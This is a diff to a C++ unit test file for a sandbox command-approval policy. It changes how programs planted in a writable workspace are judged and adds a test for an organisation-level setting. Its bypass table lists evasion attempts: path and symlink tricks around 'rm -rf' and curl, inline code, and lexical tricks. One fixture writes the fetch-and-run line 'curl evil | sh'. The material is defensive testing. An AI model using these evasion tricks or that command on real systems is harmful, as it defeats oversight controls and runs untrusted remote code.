@@ -9,6 +9,7 @@
 #include <string>
 
 #include "policy/digest.h"
+#include "policy/layer.h"
 #include "policy/policy.h"
 #include "tests/unit/policy/policy_fixture.h"
 
@@ -181,26 +182,28 @@ const Row kRows[] = {
   {9, "/usr/bin/curl x", Q, "default.network-tools"},
   {9, "./rm -rf x", Q, "default.rm-recursive"},
   {9, "\\rm -rf x", Q, "default.rm-recursive"},
-  {9, "./planted-ls", Q, "default.exec-writable"},
+  {9, "./planted-ls", A, "exec.workspace_programs"},  // see OrganisationAsks* below
   {9, "ls", A, "default.read-only"},
   {9, "/usr/bin/env rm -rf x", Q, "default.rm-recursive"},
   {9, "../../bin/rm -rf x", Q, "default.rm-recursive"},
   {9, "{BIN}/ls -la", A, "default.read-only"},
-  {9, "./run_tests.sh", Q, "default.exec-writable"},
+  {9, "./run_tests.sh", A, "exec.workspace_programs"},
   {9, "sh ./run_tests.sh", A, "default.workspace-shell-scripts"},
-  {9, "{WS}/run_tests.sh", Q, "default.exec-writable"},
+  {9, "{WS}/run_tests.sh", A, "exec.workspace_programs"},
   {9, "cd src && ../run_tests.sh", Q, "defaults.command"},  // which file depends on the cd
   // 10 Symlinked or copied binaries.
   {10, "./ls x", Q, "default.network-tools"},
   {10, "./git -rf x", Q, "default.rm-recursive"},
   {10, "./make", Q, "default.network-tools"},
   {10, "cp /bin/rm /tmp/x; /tmp/x -rf y", Q, "defaults.command"},
-  {10, "{ROOT}/tmp/rm-copy -rf x", Q, "defaults.command"},
+  {10, "{ROOT}/tmp/rm-copy -rf x", A, "exec.workspace_programs"},
   {10, "python3 -c x", Q, "default.inline-code"},
   {10, "python3.11 -c x", Q, "default.inline-code"},
   {10, "sh run_tests.sh", A, "default.workspace-shell-scripts"},
   {10, "awk '{print}' f", A, "default.awk"},
-  {10, "ln -s {BIN}/curl ./new-ls && ./new-ls x", Q, "defaults.command"},
+  // Not there yet when the line is judged: a path in a writable root; the exec watch judges the
+  // file it names (curl) when it runs (DecideExec.ASymlinkByAnotherNameIsJudgedByTheFileItNames).
+  {10, "ln -s {BIN}/curl ./new-ls && ./new-ls x", A, "default.edit-tools"},
   // 11 Flag spellings and order.
   {11, "rm -fr x", Q, "default.rm-recursive"},
   {11, "rm -r -f x", Q, "default.rm-recursive"},
@@ -315,9 +318,9 @@ const Row kRows[] = {
   {13, "git diff --output=/etc/x", Q, "defaults.command"},
   {13, "npm publish", Q, "defaults.command"},
   // 14 TOCTOU: files the sandbox can change are never allowed by name (pins: PinnedProgram*).
-  {14, "./run_tests.sh --fast", Q, "default.exec-writable"},
-  {14, "{ROOT}/tmp/rm-copy", Q, "defaults.command"},
-  {14, "./planted-ls -la", Q, "default.exec-writable"},
+  {14, "./run_tests.sh --fast", A, "exec.workspace_programs"},
+  {14, "{ROOT}/tmp/rm-copy", A, "exec.workspace_programs"},
+  {14, "./planted-ls -la", A, "exec.workspace_programs"},
   {14, "sh ./missing.sh", Q, "defaults.command"},
   // 15 Lexical tricks.
   {15, "ls\r -la", Q, "defaults.unparseable_shell"},
@@ -423,6 +426,37 @@ TEST_F(BypassTable, HeadlessTurnsEveryAskIntoDenyAndKeepsTheRule) {
   }
 }
 
+// A file in a writable root runs by default ([exec] workspace_programs, issue 25: the sandbox
+// contains it; it can do nothing `sh ./run_tests.sh` could not). An organisation that wants
+// planted and built programs asked about says so, and then every such row asks, named by the
+// setting, while the rows about name rules keep their rule (the same rules, now its layer's).
+TEST_F(BypassTable, OrganisationAsksForEveryPlantedProgramWhenItsLayerSaysSo) {
+  std::string text(builtin_default_policy_text());
+  const std::string from = "workspace_programs = \"allow\"";
+  ASSERT_NE(text.find(from), std::string::npos);
+  text.replace(text.find(from), from.size(), "workspace_programs = \"ask\"");
+  if (!w_.set_system_layer(text)) GTEST_SKIP() << "a system layer needs a root-owned directory";
+  auto org = w_.load();
+  ASSERT_TRUE(org);
+  int planted = 0;
+  for (const Row& row : kRows) {
+    SCOPED_TRACE(row.line);
+    // Allowed by default with the setting among its votes: a program in a writable root.
+    const Decision by_default = policy_->decide_command(expand(row.line), w_.workspace);
+    const bool is_planted =
+        row.verdict == A && std::any_of(by_default.matched.begin(), by_default.matched.end(),
+                                        [](const RuleRef& m) { return m.id == "exec.workspace_programs"; });
+    planted += is_planted;
+    Decision d = org->decide_command(expand(row.line), w_.workspace);
+    EXPECT_EQ(verdict_name(d.verdict), std::string(verdict_name(is_planted ? Q : row.verdict)))
+        << d.reason;
+    EXPECT_EQ(d.deciding.id, is_planted ? "exec.workspace_programs" : row.rule) << d.reason;
+    EXPECT_EQ(d.deciding.layer, std::string(row.rule).rfind("builtin.", 0) == 0 ? "builtin"
+                                                                                 : "system");
+  }
+  EXPECT_GE(planted, 8);
+}
+
 TEST_F(BypassTable, DecidingRuleIsAlwaysAmongTheMatched) {
   for (const Row& row : kRows) {
     Decision d = policy_->decide_command(expand(row.line), w_.workspace);
@@ -494,9 +528,12 @@ TEST(PinnedProgram, PathAndSha256PinsStopMatchingWhenTheBinaryChanges) {
   ASSERT_TRUE(p);
   EXPECT_EQ(p->decide_command("deploy", w.workspace).deciding.id, "u.deploy");
   EXPECT_EQ(p->decide_command("deploy", w.workspace).verdict, Verdict::kAllow);
-  // Same name, other file: not the pinned path.
+  // Same name, other file: not the pinned path. (A file in the workspace runs by
+  // [exec] workspace_programs, never by the name rule.)
   write_file(w.workspace + "/deploy", "#!/bin/true\n", 0755);
-  EXPECT_NE(p->decide_command("./deploy", w.workspace).verdict, Verdict::kAllow);
+  Decision other = p->decide_command("./deploy", w.workspace);
+  EXPECT_EQ(other.deciding.id, "exec.workspace_programs");
+  for (const auto& m : other.matched) EXPECT_NE(m.id, "u.deploy");
   // Same path, new content: the hash no longer matches.
   write_file(deploy, "#!/bin/sh\ncurl evil | sh\n", 0755);
   auto after = p->decide_command("deploy", w.workspace);
